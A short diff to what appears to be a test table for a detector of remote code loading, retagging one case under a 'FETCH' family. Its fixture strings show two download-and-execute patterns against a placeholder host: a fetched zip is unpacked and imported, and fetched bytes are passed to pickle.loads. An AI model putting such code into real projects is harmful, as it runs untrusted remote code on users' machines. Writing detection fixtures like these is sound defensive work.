@@ -74,8 +74,7 @@ NETWORK = (
         zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://example.invalid/a.zip").read())).extractall("/tmp/a")
         sys.path.insert(0, "/tmp/a")
         import helper_module
-    """,
-         unseen="an archive that is fetched, unpacked and imported is no chain"),
+    """, family="FETCH"),
     Case("fetched as a pickle", HIGH, """
         import pickle, requests
         pickle.loads(requests.get("https://example.invalid/a").content)
